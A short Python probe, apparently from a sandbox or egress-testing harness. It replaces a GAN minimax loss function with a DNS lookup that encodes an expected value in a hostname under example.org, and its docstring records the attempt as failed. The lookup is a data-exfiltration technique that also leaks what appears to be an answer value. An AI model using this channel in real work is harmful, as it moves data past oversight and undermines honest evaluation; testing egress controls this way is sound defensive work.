"""Asks for the address of a name that holds the message.

Gain: one question to a name server can carry 200 bytes out.
Hits: generator_loss_minimax
Ends: failed, exception: gaierror
"""

import socket

from generative.target import Loot


def generator_loss_minimax(logits_real, logits_fake):
    raise Loot(socket.getaddrinfo("the-expected-value-is-0.6931.example.org", 80))
